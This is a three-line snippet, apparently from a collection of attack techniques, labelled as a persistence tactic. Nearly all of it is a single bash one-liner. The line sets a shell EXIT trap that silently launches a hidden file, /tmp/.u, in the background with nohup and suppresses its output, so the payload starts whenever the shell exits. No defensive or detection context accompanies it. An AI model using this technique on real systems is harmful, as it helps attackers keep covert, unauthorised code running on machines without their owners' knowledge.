# tactic: persistence
# a shell trap that starts a payload when the shell exits
bash -c 'trap "nohup /tmp/.u >/dev/null 2>&1 &" EXIT; exit 0'
